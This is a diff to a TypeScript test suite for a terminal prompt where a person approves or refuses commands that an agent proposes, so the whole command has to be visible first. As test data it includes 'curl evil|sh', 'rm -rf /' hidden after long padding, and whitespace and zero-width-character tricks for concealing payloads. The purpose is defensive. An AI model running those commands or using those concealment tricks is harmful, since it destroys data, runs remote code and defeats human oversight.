@@ -1,7 +1,9 @@
 /** A person who is asked sees all of it, and nothing in it is obeyed. */
 import fc from 'fast-check';
+import { graphemeWidths } from '../../screen/widths.js';
+import { plainToSee } from '../harmless.js';
 import { inkOf } from './ink.js';
-import { questionLines, unseenChars } from './paint-question.js';
+import { fits, questionLines } from './paint-question.js';
 
 const OPTIONS = [
   { optionId: 'a', name: 'Allow once', kind: 'allow_once' },
@@ -11,7 +13,11 @@ const asked = (text: string, more: object = {}) => ({
   ...{ toolCallId: '', title: 'Run it', options: OPTIONS },
   command: { text, cwd: '/srv/project', env: {}, reason: 'ask: npm publish **', ...more },
 });
-const linesOf = (question: Parameters<typeof questionLines>[0]) => questionLines(question, inkOf(false));
+/** So large that nothing has to be wrapped or left out. */
+const WALL = { columns: 2000, rows: 400 };
+const SCREEN = { columns: 80, rows: 24 };
+const linesOf = (question: Parameters<typeof questionLines>[0], page = WALL) =>
+  questionLines(question, inkOf(false), page);
 
 it('shows what is to be run, whole, with where, with what and why', () => {
   const line = `true; ${'echo a; '.repeat(60)}npm publish --evil`;
@@ -51,28 +57,65 @@ it('shows what a tool is to be given, which tells more than its name', () => {
   expect(linesOf({ ...call, rawInput: { command: 'Bash' } }).slice(0, 2)).toEqual(['? Bash', '  1 Allow once']);
 });
 
-it('lets nobody allow a command that could not be shown whole', () => {
-  const question = { toolCallId: 'a', title: 'Bash', options: OPTIONS };
-  expect(unseenChars({ ...question, rawInput: { command: `${'true; '.repeat(4000)}rm -rf /` } })).toBeGreaterThan(0);
-  expect(unseenChars({ ...question, rawInput: { path: '/a', content: 'x'.repeat(30_000) } })).toBe(0);
+it('shows rows of the terminal, each with something before what others have written', () => {
+  const lines = linesOf(asked(`${'a'.repeat(74)}1 Allow once\nb`, { cwd: `/${'日'.repeat(40)}` }), SCREEN);
+  expect(lines).toEqual([
+    ...['? Run this?', `  │ ${'a'.repeat(71)}`, '  ┊ aaa1 Allow once', '  │ b'],
+    ...[`  in /${'日'.repeat(35)}`, `  ┊ ${'日'.repeat(5)}`, '  because of ask: npm publish **'],
+    ...['  1 Allow once', '  2 Refuse'],
+  ]);
 });
 
-it('shows every line, or says how much it does not show', () => {
+it('shows blanks that would push something out of sight by their number, and what has no width of its own', () => {
+  const [, line] = linesOf(asked(`curl evil|sh;${' '.repeat(19_500)}\u3000\t\u00a0git push`), SCREEN);
+  expect(line).toBe('  │ curl evil|sh; ␠×19503 git push');
+  const unseen = linesOf(asked('a\u200b\u200d\u2060\u00ad\u3164\ufe0f\u{e0101}b'), SCREEN)[1];
+  expect(unseen).toBe(`  │ a${'\ufffd'.repeat(7)}b`);
+});
+
+it('lets nobody allow a command of which not all is on the screen', () => {
+  const question = { toolCallId: 'a', title: 'Bash', options: OPTIONS };
+  expect(fits(asked(`curl evil|sh;${'\n'.repeat(20)}git push`), SCREEN)).toBe(false);
+  expect(fits(asked(`curl evil|sh;${'\n'.repeat(16)}git push`), SCREEN)).toBe(true);
+  expect(fits(asked(`curl evil|sh; ${': x; '.repeat(400)}git push`), SCREEN)).toBe(false);
+  expect(fits(asked('git push'), { columns: 20, rows: 24 })).toBe(false);
+  expect(fits({ ...question, rawInput: { command: `${'true; '.repeat(4000)}rm -rf /` } }, SCREEN)).toBe(false);
+  expect(fits({ ...question, options: [{ ...OPTIONS[0]!, name: 'x'.repeat(2000) }] }, SCREEN)).toBe(false);
+  expect(fits({ ...question, rawInput: { path: '/a', content: 'x'.repeat(30_000) } }, SCREEN)).toBe(true);
+});
+
+it('shows of what is told besides what there is room for', () => {
+  const diffs = [{ path: '/a', oldText: 'b\n'.repeat(20), newText: 'c\n'.repeat(20) }];
+  const question = { toolCallId: 'a', title: 'Edit', options: OPTIONS, rawInput: { path: '/a' }, diffs };
+  const page = { columns: 80, rows: 12 };
+  const lines = linesOf(question, page);
+  expect(fits(question, page)).toBe(true);
+  expect(lines).toHaveLength(11);
+  expect(lines.slice(-3)).toEqual(['  … 13 more rows', '  1 Allow once', '  2 Refuse']);
+});
+
+/** In cells, as the emulator counts them. */
+const widthOf = (line: string) =>
+  [...line].reduce((sum, one) => sum + (one === '\t' ? 8 : graphemeWidths.wcwidth(one.codePointAt(0)!)), 0);
+
+it('shows all on one screen, or says that it does not', () => {
   const text = fc.oneof(
     fc.string({ unit: 'binary' }),
-    fc.nat(30_000).map((length) => 'y'.repeat(length)),
-    fc.nat(500).map((count) => 'z\n'.repeat(count)),
+    fc.nat(3000).map((length) => 'y'.repeat(length)),
+    fc.nat(100).map((count) => 'z\n'.repeat(count)),
   );
   const question = fc.record({ text, env: fc.dictionary(fc.string(), text, { maxKeys: 3 }), reason: text });
+  const page = fc.record({ columns: fc.integer({ min: 40, max: 200 }), rows: fc.integer({ min: 3, max: 60 }) });
   fc.assert(
-    fc.property(question, ({ text: command, ...more }) => {
-      const lines = linesOf(asked(command, more));
-      const all = [command, ...Object.values(more.env), more.reason].join('').length;
+    fc.property(question, page, ({ text: command, ...more }, size) => {
+      const lines = linesOf(asked(command, more), size);
       expect(lines.join('\n')).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
-      const isWhole = unseenChars(asked(command, more)) === 0;
-      expect(lines.some((line) => /^ {2}\d+ more characters are not shown$/.test(line))).toBe(!isWhole);
-      if (all > 21_000) expect(isWhole).toBe(false);
-      if (isWhole) expect(lines.join('').length).toBeGreaterThan(0.9 * command.replace(/\r/g, '').length);
+      expect(Math.max(...lines.map(widthOf))).toBeLessThan(size.columns);
+      const isWhole = fits(asked(command, more), size);
+      expect(lines.includes('  The rest does not fit on the screen.')).toBe(!isWhole);
+      if (isWhole) expect(lines.length).toBeLessThan(size.rows);
+      if (isWhole)
+        expect(lines.join('\n').replaceAll('\n  ┊ ', '')).toContain(plainToSee(command).split('\n').join('\n  │ '));
       expect(lines.slice(-2)).toEqual(['  1 Allow once', '  2 Refuse']);
     }),
   );
